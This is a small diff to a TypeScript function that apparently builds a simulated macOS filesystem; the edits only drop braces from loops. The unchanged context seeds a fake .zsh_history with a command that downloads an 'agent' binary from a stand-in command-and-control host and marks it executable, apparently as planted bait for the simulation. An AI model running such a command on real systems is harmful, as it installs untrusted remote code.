@@ -20,9 +20,8 @@ export function plantMac(planter: Planter, { spec, home, user, bootTime, product
     '/usr/local/bin',
     '/usr/sbin',
     '/var/tmp',
-  ]) {
+  ])
     planter.directory(path);
-  }
   planter.text(
     '/etc/hosts',
     '127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n',
@@ -51,9 +50,8 @@ export function plantMac(planter: Planter, { spec, home, user, bootTime, product
     'Movies',
     'Music',
     'Pictures',
-  ]) {
+  ])
     planter.directory(`${home}/${folder}`);
-  }
   planter.text(
     `${home}/.zsh_history`,
     'curl -fsSL https://c2.example.invalid/agent -o agent\nchmod +x agent\n',
